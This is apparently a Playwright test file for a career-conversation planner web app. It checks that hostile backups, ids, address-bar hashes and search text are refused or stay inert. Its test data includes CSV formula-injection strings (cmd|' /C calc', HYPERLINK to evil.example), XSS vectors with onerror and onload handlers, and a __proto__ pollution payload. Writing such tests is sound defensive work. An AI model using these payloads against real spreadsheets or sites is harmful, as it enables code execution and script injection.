        await page.evaluate((id) => (location.hash = id), `#c${i}`);
        await expect(page.locator('main p.text-xl')).toBeVisible();
        expect(await textOf(page, 'main p.text-xl')).toBe(`With ${p.name} — ${p.role}, ${p.organisation}`);
        expect(
          await page
            .getByRole('region', { name: '2. Conversation mode' })
            .getByRole('heading', { level: 3 })
            .evaluate((el) => el.textContent),
        ).toBe(c.questions[0]!.text);
        await expect(page.getByLabel('Notes on question 1')).toHaveValue(c.questions[0]!.notes.replace(/\r\n?/g, '\n'));
        await expect(page.getByLabel('What I learned')).toHaveValue(c.learned.replace(/\r\n?/g, '\n'));
        const journal = await textOf(page, '[data-journal-print]');
        for (const part of [`Conversation with ${p.name}`, c.questions[0]!.text, c.learned]) expect(journal).toContain(part);
        if (people[i + 1]) expect(journal).toContain(people[i + 1]!.name);
        await loadSheetPrint(page);
        expect(await page.locator('[data-print-sheet] dd').allTextContents()).toEqual([p.name, p.role, p.organisation, expect.any(String)]);
        await expectInert(page, `the companion for ${hostile[i]!.name}`);
        await page.getByRole('button', { name: 'Write the thank-you note…' }).click();
        const thanks = page.getByRole('dialog');
        await expect(thanks.getByRole('textbox', { name: /Message/ })).toHaveValue(/Dear /);
        expect(await thanks.getByRole('link', { name: /Open in my mail program/ }).getAttribute('href')).toMatch(/^mailto:[^:]*\?subject=/);
        await expectInert(page, `the thank-you note for ${hostile[i]!.name}`);
        await page.keyboard.press('Escape');
        await expect(thanks).toBeHidden();
      });
    }

    // Every person opens, and saving without a change loses nothing: the form only trims the
    // name. Tags left alone are kept whole, even one holding a comma.
    const stored = async () => JSON.parse((await page.evaluate((key) => localStorage.getItem(key), PLANNER_KEY))!).data;
    await openPlanner(page);
    for (const [i, p] of people.entries()) {
      await page.locator(`article[aria-labelledby="conversation-c${i}"]`).getByRole('button', { name: 'Edit person…' }).click();
      const form = page.getByRole('dialog');
      expect(await form.locator('h2').evaluate((h) => h.textContent)).toBe(p.name);
      await expect(form.getByLabel('Notes', { exact: true })).toHaveValue(p.notes.replace(/\r\n?/g, '\n'));
      await expectInert(page, `the person dialog for ${hostile[i]!.name}`);
      await form.getByRole('button', { name: 'Save person' }).click();
      await expect(form).toBeHidden();
    }
    const resaved = people.map((p) => ({ ...p, name: p.name.trim() }));
    expect(strip((await stored()).people)).toEqual(strip(resaved));
  });

  const formulas = [
    '=HYPERLINK("http://evil.example","Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\u0000=1+1',
  ];
  test('formula cells in a backup come out of the spreadsheet export neutralised', async ({ page }) => {
    const f = (i: number) => formulas[i % formulas.length]!;
    const backup = plannerDocument(
      [
        person('f', f(0), {
          role: f(1),
          organisation: f(2),
          howKnown: f(3),
          email: f(4),
          phone: f(5),
          profileUrl: f(6),
          tags: [f(1)],
          notes: f(2),
        }),
      ],
      [conversation('fc', 'f', { place: f(3), notes: f(4) })],
    );
    await openPlanner(page);
    await page.getByRole('button', { name: 'Import backup…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Import a backup' });
    await dialog
      .getByLabel('Backup file')
      .setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(backup)) });
    await dialog.getByRole('button', { name: 'Merge the backup' }).click();
    await expect(page.locator('article[aria-labelledby="conversation-fc"]')).toBeVisible();
    const [row] = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
    const cells = [
      'Name',
      'Role',
      'Organization',
      'How you know them',
      'Email',
      'Phone',
      'Profile link',
      'Tags',
      'Person notes',
      'Place',
      'Conversation notes',
    ] as const;
    for (const cell of cells) expect(row![cell], cell).toMatch(/^'[=+\-@\t\r\0]/);
    expect(row!.Name).toBe(`'${f(0)}`);
    await expectInert(page, 'the planner with formulas');
  });

  const refused: { name: string; file: string; says: string }[] = [
    {
      name: 'a CSV file with formula cells',
      file: 'Name,Notes\r\n=HYPERLINK("http://evil.example"),+cmd|\' /C calc\'!A0\r\n@SUM(1+1),-2+3\r\n',
      says: 'The file is not JSON',
    },
    {
      name: 'an HTML page',
      file: '<!doctype html><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">',
      says: 'The file is not JSON',
    },
    {
      name: 'a name longer than the limit',
      file: JSON.stringify(plannerDocument([person('a', `${LONG}W`)], [])),
      says: `data.people[0].name: must be at most ${limits.short} characters`,
    },
    {
      name: 'a note longer than the limit',
      file: JSON.stringify(plannerDocument([person('a', 'Ada', { notes: `${LONG}W` })], [])),
      says: `data.people[0].notes: must be at most ${limits.long} characters`,
    },
    {
      name: 'markup as a version',
      file: JSON.stringify({ version: '<img src=x onerror=window.__pwned=1>', data: {} }),
      says: 'is not a valid planner backup',
    },
    {
      name: 'markup in a repeated id',
      file: JSON.stringify(
        plannerDocument([person('<b onmouseover=window.__pwned=1>', 'A'), person('<b onmouseover=window.__pwned=1>', 'B')], []),
      ),
      says: 'the id "<b onmouseover=window.__pwned=1>" is used by more than one record',
    },
    {
      name: 'a prototype-polluting key',
      file: '{"__proto__":{"polluted":1},"version":3,"data":{"__proto__":{"x":1}}}',
      says: 'is not a valid planner backup',
    },
    { name: 'deep nesting', file: `${'['.repeat(100_000)}${']'.repeat(100_000)}`, says: 'is not a valid planner backup' },
    { name: 'NUL bytes', file: '\u0000\u0000{"version":3}', says: 'The file is not JSON' },
    {
      name: 'an id holding half a character',
      file: JSON.stringify(plannerDocument([person('half\uD800', 'Ada')], [])),
      says: 'data.people[0].id: must not hold half a character',
    },
  ];
  test(`${refused.length} hostile files are refused with a message and change nothing`, async ({ page }) => {
    await seed(page, JSON.stringify(plannerDocument([person('a', 'Ada Okafor')], [conversation('ca', 'a')])));
    await openPlanner(page);
    const before = await page.evaluate((key) => localStorage.getItem(key), PLANNER_KEY);
    await page.getByRole('button', { name: 'Import backup…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Import a backup' });
    for (const r of refused) {
      await test.step(r.name, async () => {
        await dialog
          .getByLabel('Backup file')
          .setInputFiles({ name: `${r.name}.json`, mimeType: 'application/json', buffer: Buffer.from(r.file) });
        await expect(dialog.getByRole('alert')).toContainText(r.says);
        await expect(dialog.getByRole('alert')).toContainText('Nothing was changed.');
        await expectInert(page, `an import of ${r.name}`);
      });
    }
    expect(await page.evaluate((key) => localStorage.getItem(key), PLANNER_KEY)).toBe(before);
    expect(await page.evaluate(() => (Object.prototype as Record<string, unknown>).polluted)).toBeUndefined();
  });

  test('ids with markup still open people and conversations, and never become markup', async ({ page }) => {
    // Ids name elements, and aria-labelledby splits its value at spaces, so ids with spaces are
    // here too; so are two that a simple "replace odd characters" would make the same.
    const ids = [
      '<img/src=x/onerror=window.__pwned=1>',
      'javascript:window.__pwned=1',
      '"><svg/onload=window.__pwned=1>',
      '../../?#%00%',
      'two words',
      'two_words',
    ];
    const backup = plannerDocument(
      ids.map((id, i) => person(id, `Person ${i}`, { referredBy: i > 0 ? ids[i - 1]! : null, email: 'a@example.org' })),
      ids.map((id, i) =>
        conversation(`c:${id}`, id, { status: 'done', doneOn: dayFromToday(-2), scheduledDate: dayFromToday(-2), learned: `Learned ${i}` }),
      ),
    );
    await seed(page, JSON.stringify(backup));
    await openPlanner(page);
    // Each card is named by its person, so every id reached its element whole.
    for (const [i] of ids.entries()) await expect(page.getByRole('article', { name: `Person ${i}`, exact: true })).toHaveCount(1);
    const labelled = await page.locator('article[aria-labelledby]').evaluateAll((as) => as.map((a) => a.getAttribute('aria-labelledby')!));
    expect(new Set(labelled).size).toBe(labelled.length);
    for (const id of labelled) expect(id).toMatch(/^[\w-]+$/);
    await expectInert(page, 'the planner with hostile ids');
    await page.getByRole('button', { name: 'Show the referral tree' }).click();
    await expect(page.getByRole('group', { name: 'Referral tree' }).getByRole('link')).toHaveCount(ids.length);
    await page.getByRole('article', { name: 'Person 1' }).getByRole('link', { name: 'Person 0' }).click();
    await expect(page.getByRole('dialog', { name: 'Person 0' })).toBeVisible();
    await page.keyboard.press('Escape');
    await expectInert(page, 'the referral tree with hostile ids');
    for (const [i] of ids.entries()) {
      await test.step(`the companion of person ${i}`, async () => {
        await page
          .getByRole('article', { name: `Person ${i}` })
          .getByRole('link', { name: 'Conversation companion' })
          .click();
        await expect(page.locator('main p.text-xl')).toHaveText(`With Person ${i}`);
        await page.getByRole('button', { name: 'Write the thank-you note…' }).click();
        await expect(page.getByRole('dialog', { name: `Thank-you note to Person ${i}` })).toBeVisible();
        await expectInert(page, `the companion of person ${i}`);
        await page.goto(PLANNER);
      });
    }
  });
});

test.describe('the address bar', () => {
  const payloads = typable
    .filter((h) => h.text !== LONG)
    .map((h) => h.text)
    .concat(`x${'<b>'.repeat(5000)}`);
  const pages = [
    { path: PLANNER, marker: '[data-ready]', prefix: '#person-', says: 'This person is not in the planner' },
    { path: '/planner/conversation/', marker: '[data-ready]', prefix: '#', says: 'This conversation is not in your planner.' },
    { path: '/counselors/', marker: 'link-builder', prefix: '#', says: null },
    { path: '/steps/know-what-you-want/', marker: 'print-footer', prefix: '#', says: null },
  ];
  for (const p of pages) {
    test(`${p.path} with hostile text in its address`, async ({ page }) => {
      await page.goto(p.path);
      await expect(page.locator(p.marker).first()).toBeAttached();
      for (const text of payloads) {
        await test.step(JSON.stringify(text.slice(0, 40)), async () => {
          await page.evaluate(([prefix, t]) => (location.hash = prefix + encodeURIComponent(t!)), [p.prefix, text] as const);
          if (p.says) await expect(page.getByText(p.says)).toBeVisible();
          await expectInert(page, `${p.path} with “${text.slice(0, 40)}”`);
          if (p.says && p.prefix === '#person-') {
            await page.keyboard.press('Escape');
            // Closing forgets the link, so a reload does not open it again.
            await expect.poll(() => page.evaluate(() => location.hash)).toBe('');
          }
        });
      }
      // The printed footer shows the address as text.
      if (p.marker === 'print-footer') {
        await page.goto(`${p.path}?q=${encodeURIComponent(payloads[0]!)}#${encodeURIComponent(payloads[1]!)}`);
        await page.emulateMedia({ media: 'print' });
        await expect(page.locator('print-footer')).toContainText(`Printed from ${page.url()}`);
        await expectInert(page, 'the printed footer');
      }
    });
  }

  test('the counselors’ link builder takes no free text', async ({ page }) => {
    await page.goto('/counselors/');
    await expect(
      page.locator('link-builder').locator('input[type="text"]:not([readonly]), input:not([type]), textarea, [contenteditable]'),
    ).toHaveCount(0);
  });
});

test('the site search takes hostile text as a search and nothing more', async ({ page }) => {
  await page.goto('/');
  await page.keyboard.press('/');
  const box = page.getByRole('searchbox', { name: 'Search words' });
  for (const h of typable) {
    const query = h.text.slice(0, 500);
    await box.fill(query);
    await expect.poll(() => textOf(page, '#search-status')).toContain(`“${oneLine(query, Infinity).trim()}”`);
    await expectInert(page, `a search for ${h.name}`);
  }
});
